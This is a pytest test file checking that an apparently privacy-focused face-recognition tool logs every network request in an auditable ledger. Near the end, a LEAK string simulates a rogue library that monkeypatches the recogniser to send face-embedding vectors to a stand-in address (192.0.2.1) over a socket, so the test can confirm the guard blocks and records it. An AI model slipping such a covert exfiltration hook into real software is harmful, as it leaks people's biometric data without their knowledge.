"""The ledger in the program people run: nothing is missing from it, whatever happens."""

import csv
import hashlib
import json
import subprocess
import sys

import pytest

from tests.e2e.sources import add, site
from tests.site import Answer, Site, html

LINE = {
    "at", "purpose", "source", "host", "url", "address", "status", "refused", "bytes_up",
    "bytes_down",
}  # fmt: skip


def ledger(exposure, *args):
    said = exposure("ledger", "--json", *args)
    assert said.code == 0, said.err
    return said.document["requests"]


@pytest.fixture
def audited(enrolled):
    with site() as web:
        add(enrolled, web.url)
        assert enrolled("audit").code == 0
    return enrolled, web


def test_each_line_says_when_what_for_to_whom_and_how_much(audited):
    exposure, web = audited
    lines = ledger(exposure)
    assert all(line.keys() == LINE for line in lines)
    [page] = [line for line in lines if line["url"] == web.url]
    assert (page["purpose"], page["status"], page["address"]) == ("page", 200, "127.0.0.1")
    assert page["host"] == web.url.split("/")[2]
    assert page["bytes_up"] > 100
    assert page["bytes_down"] > 0
    assert page["source"]


def test_it_can_be_narrowed_by_host_purpose_text_and_refusal(enrolled):
    pages = {
        "/": html('<a href="/private/x">p</a><a href="/lost">l</a>'),
        "/robots.txt": Answer(b"User-agent: *\nDisallow: /private/\n", "text/plain"),
    }
    with Site(pages) as web:
        add(enrolled, web.url)
        assert enrolled("audit").code == 0
    refused = ledger(enrolled, "--refused")
    assert [(line["url"], line["refused"], line["address"]) for line in refused] == [
        (web.url + "private/x", "robots", "")
    ]
    assert {line["purpose"] for line in ledger(enrolled, "--purpose", "robots")} == {"robots"}
    assert [line["url"] for line in ledger(enrolled, "--text", "LOST")] == [web.url + "lost"]
    assert len(ledger(enrolled, "--host", "127.0.0.1")) == len(ledger(enrolled))
    assert ledger(enrolled, "--host", "elsewhere.example") == []
    assert "No request is like that." in enrolled("ledger", "--host", "elsewhere.example").out


def test_it_can_be_kept_as_a_table_and_as_data(audited, tmp_path):
    exposure, _ = audited
    for suffix in ("csv", "json"):
        assert exposure("ledger", "--out", str(tmp_path / f"l.{suffix}")).code == 0
    lines = ledger(exposure)
    assert json.loads((tmp_path / "l.json").read_text("utf-8"))["requests"] == lines
    with (tmp_path / "l.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["url"] for row in rows] == [line["url"] for line in lines]
    assert exposure("ledger", "--out", str(tmp_path / "l.exe")).code == 1


def test_paths_can_be_kept_as_hashes_that_a_known_address_can_be_found_by(enrolled, profile):
    assert enrolled("settings", "ledger-paths", "hashed").code == 0
    with site() as web:
        add(enrolled, web.url)
        assert enrolled("audit").code == 0
    lines = ledger(enrolled)
    assert not [line for line in lines if "me.jpg" in line["url"]]
    digest = hashlib.sha256(b"/me.jpg").hexdigest()[:32]
    assert [line["status"] for line in ledger(enrolled, "--text", digest)] == [200]
    assert {line["host"] for line in lines} == {web.url.split("/")[2]}


def test_a_request_under_way_when_the_program_is_killed_is_in_the_ledger(enrolled, spawn):
    def hang(handler):
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nslow")
        handler.wfile.flush()
        handler.rfile.read(1)

    with Site({"/": html('<a href="/slow">s</a>'), "/slow": hang}) as web:
        add(enrolled, web.url)
        process = spawn("audit")
        assert web.was_asked("/slow", within_s=60)
        process.kill()
        process.communicate()
    [line] = [line for line in ledger(enrolled) if line["url"] == web.url + "slow"]
    assert (line["refused"], line["status"]) == ("unfinished", None)


LEAK = """
import sys
from exposure_app import guard
guard.install()
import socket, numpy
from exposure_app.faces.recognition import recogniser
real = recogniser.Recogniser.embed
def leaking(self, crops):
    found = real(self, crops)
    try:
        socket.create_connection(("192.0.2.1", 443), 1).send(found[0].vector.tobytes())
    except OSError:
        pass  # as a library would, which only tries
    return found
recogniser.Recogniser.embed = leaking
from exposure_app.cli.main import main
sys.exit(main())
"""


def test_a_part_that_tries_to_phone_home_is_stopped_and_found_in_the_ledger(
    enrolled, profile, tmp_path
):
    folder = tmp_path / "pictures"
    folder.mkdir()
    (folder / "one.jpg").write_bytes((tmp_path / "portrait.jpg").read_bytes())
    add(enrolled, folder)
    done = subprocess.run(
        [sys.executable, "-c", LEAK, "--home", str(profile), "audit", "--quiet"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    lines = ledger(enrolled, "--refused")
    assert {(line["purpose"], line["url"], line["address"]) for line in lines} == {
        ("guard", "socket.connect:192.0.2.1:443", "")
    }
